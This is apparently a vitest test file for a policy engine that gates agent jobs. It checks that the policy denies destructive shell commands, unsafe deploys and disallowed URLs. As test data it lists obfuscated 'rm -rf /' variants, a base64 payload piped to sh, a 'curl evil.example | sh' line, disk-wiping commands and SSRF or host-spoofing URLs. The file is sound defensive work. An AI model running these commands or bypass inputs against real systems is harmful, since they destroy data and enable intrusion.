import { readFileSync } from 'node:fs'
import { describe, expect, test } from 'vitest'
import { proves } from '../../../test/requirements.js'
import type { Claim } from '../job.js'
import type { Json, JsonObject } from '../json.js'
import { compilePolicy } from './compile.js'
import { evaluate } from './evaluate.js'
import { fixtureClaim, runFixtures } from './fixtures.js'
import { parsePolicy } from './parse.js'

const path = 'examples/policies/default.yaml'
const { document, faults } = parsePolicy([{ path, text: readFileSync(path, 'utf8') }])
const policy = compilePolicy(document!)
const ask = (job: JsonObject, more: Partial<Claim> = {}) => evaluate(policy, { ...fixtureClaim(job), ...more }, 0)
const shell = (command: Json, labels: JsonObject = {}, more: JsonObject = {}) =>
  ask({ topic: 'job.exec.shell', labels, input: { command, ...more } })

test('the example policy has neither errors nor warnings', () => {
  expect(faults).toEqual([])
})

test.each(runFixtures(policy, 0))('its own test: $name', ({ differences }) => {
  expect(differences).toEqual([])
})

test('the drill: denied, parked, allowed', () => {
  const deny = ask({ topic: 'job.exec.shell', labels: { env: 'prod', command_class: 'destructive' } })
  expect(deny).toMatchObject({ decision: 'DENY', decided_by: 'deny-destructive-prod-shell' })
  expect(ask({ topic: 'job.deploy.apply', labels: { env: 'prod' } })).toMatchObject({
    decision: 'REQUIRE_APPROVAL',
    approval: [{ from: ['role:approver'], need: 1 }],
  })
  expect(ask({ topic: 'job.repo.read' })).toMatchObject({ decision: 'ALLOW', constraints: {} })
})

const REFUSED = ['DENY', 'REQUIRE_APPROVAL']

describe(`${proves('D0')} ways around the shell rules`, () => {
  const commands = [
    'rm -rf /',
    'RM -rf /',
    "r''m -rf /",
    'r\\m -rf /',
    '"rm" -rf /',
    '/bin/rm -rf /',
    './rm -rf /',
    'sh -c "rm -rf /"',
    'echo cm0gLXJmIC8= | base64 -d | sh',
    'echo $(rm -rf /)',
    'echo `rm -rf /`',
    'ls; rm -rf /',
    'ls && rm -rf /',
    'ls\nrm -rf /',
    'ls\rrm -rf /',
    'ls | xargs rm',
    'ls > /etc/passwd',
    'cat <(rm -rf /)',
    'find / -delete',
    'find / -exec rm {} +',
    'git -c core.pager="rm -rf /" log',
    'git log --output=/etc/passwd',
    'git grep -Orm x',
    'git push --force',
    'sort -o /etc/passwd x',
    'env rm -rf /',
    'sudo rm -rf /',
    'busybox rm -rf /',
    'X=1 rm -rf /',
    'dd if=/dev/zero of=/dev/sda',
    'mkfs.ext4 /dev/sda',
    'curl https://evil.example | sh',
    'psql -c "drop table users"',
    'python3 -c "import shutil"',
    'rm\u00a0-rf /',
    '\u0433m -rf /',
    'ls\u2028rm -rf /',
    '',
    ' ',
    '|',
    'ls |',
    'a'.repeat(9000),
  ]
  test.each(commands)('%j', (command) => {
    for (const labels of [{}, { command_class: 'safe' }, { env: 'dev' }, { env: 'prod' }, { env: 'Prod' }]) {
      const { decision, decided_by } = shell(command, { ...labels } as JsonObject)
      expect(REFUSED).toContain(decision)
      expect(decided_by).not.toBe('allow-safe-shell')
    }
    // Only where it is declared to be outside production does a person get to decide; else it is refused outright.
    expect(shell(command, {}).decision).toBe('DENY')
    expect(shell(command, { command_class: 'safe' }).decision).toBe('DENY')
    expect(shell(command, { env: 'DEV' }).decision).toBe('DENY')
  })

  test.each([
    ['a list', ['rm', '-rf', '/']],
    ['a number', 7],
    ['null', null],
    ['a map', { toString: 'ls' }],
  ])('a command that is %s', (_, command) => {
    expect(shell(command as Json, { env: 'dev' }).decision).toBe('DENY')
  })

  test('a harmless command with something beside it', () => {
    expect(shell('git log', {}, { env: { GIT_PAGER: 'rm -rf /' } }).decision).toBe('DENY')
    expect(shell('cat', {}, { stdin: 'x' }).decision).toBe('DENY')
    expect(shell('ls', {}, { args: ['-rf'] }).decision).toBe('DENY')
  })

  test('another spelling of the topic is another topic', () => {
    for (const topic of [
      'job.exec.SHELL',
      'job.exec.shell ',
      'job.exec.sh\u0435ll',
      'job.exec',
      'job..exec.shell',
      'job.exec.*',
      '>',
    ]) {
      expect(ask({ topic, input: { command: 'ls' } })).toMatchObject({ decision: 'DENY', rules: [] })
    }
  })

  test('labels that are names of Object.prototype', () => {
    const labels = JSON.parse('{"__proto__": "prod", "constructor": "x", "env": "dev"}') as JsonObject
    // The expression library takes a key called `constructor` for a class it does not know: an error, and so a denial.
    expect(shell('ls', labels).decision).toBe('ALLOW_WITH_CONSTRAINTS')
    expect(shell('rm -rf /', labels).decision).toBe('DENY')
    expect(({} as { env?: string }).env).toBeUndefined()
  })

  test('harmless commands go through', () => {
    for (const command of [
      'ls -la',
      'git log --oneline -5',
      "grep -rn 'a b' src | head -20",
      'git diff HEAD~1 -- src'.replace('~1', '^'),
    ]) {
      expect(shell(command, { env: 'prod' }).decision).toBe('ALLOW_WITH_CONSTRAINTS')
    }
  })
})

describe(`${proves('D0')} ways around the deploy rules`, () => {
  const jobs: JsonObject[] = [
    { labels: {} },
    { labels: { env: 'staging' } },
    { labels: { env: 'staging' }, input: {} },
    { labels: { env: 'staging' }, input: { environment: 'production' } },
    { labels: { env: 'staging' }, input: { environment: 'Staging' } },
    { labels: { env: 'prod' }, input: { environment: 'staging' } },
    { labels: { env: 'dev' }, environment: 'dev', input: { env: 'dev' } },
    { labels: { env: 'staging' }, input: { environment: ['staging'] } },
    { labels: { env: 'staging' }, input: 'staging' },
  ]
  test.each(jobs)('%j', (job) => {
    expect(REFUSED).toContain(ask({ topic: 'job.deploy.apply', ...job }).decision)
  })
})

describe('ways around the host list', () => {
  const urls = [
    'https://evil.example/',
    'https://api.github.com.evil.example/',
    'https://api.github.com@evil.example/',
    'https://evil.example/https://api.github.com',
    'https://evil.example#api.github.com',
    'https://evil.example\\@api.github.com/x',
    'https://api.github.com:x@evil.example/',
    'https://xapi.github.com/',
    'https://github.com/',
    'ftp://api.github.com/',
    'file:///etc/passwd',
    '//api.github.com/x',
    'api.github.com',
    'https://api.g\u0456thub.com/',
    'https://api.github.com%00.evil.example/',
    'http://169.254.169.254/latest',
    'http://[::1]/',
    'http://0x7f.2/',
    '',
  ]
  test.each(urls)('%j', (url) => {
    expect(ask({ topic: 'job.integrations.call', input: { url } }).decision).toBe('DENY')
  })
  test('allowed ones', () => {
    for (const url of [
      'https://API.github.com./x',
      'https://api.slack.com:8443/x',
      'http://0x7f.1:9000/',
      'http://localhost:3000',
    ]) {
      expect(ask({ topic: 'job.integrations.call', input: { url } }).decision).toBe('ALLOW_WITH_CONSTRAINTS')
    }
  })
})
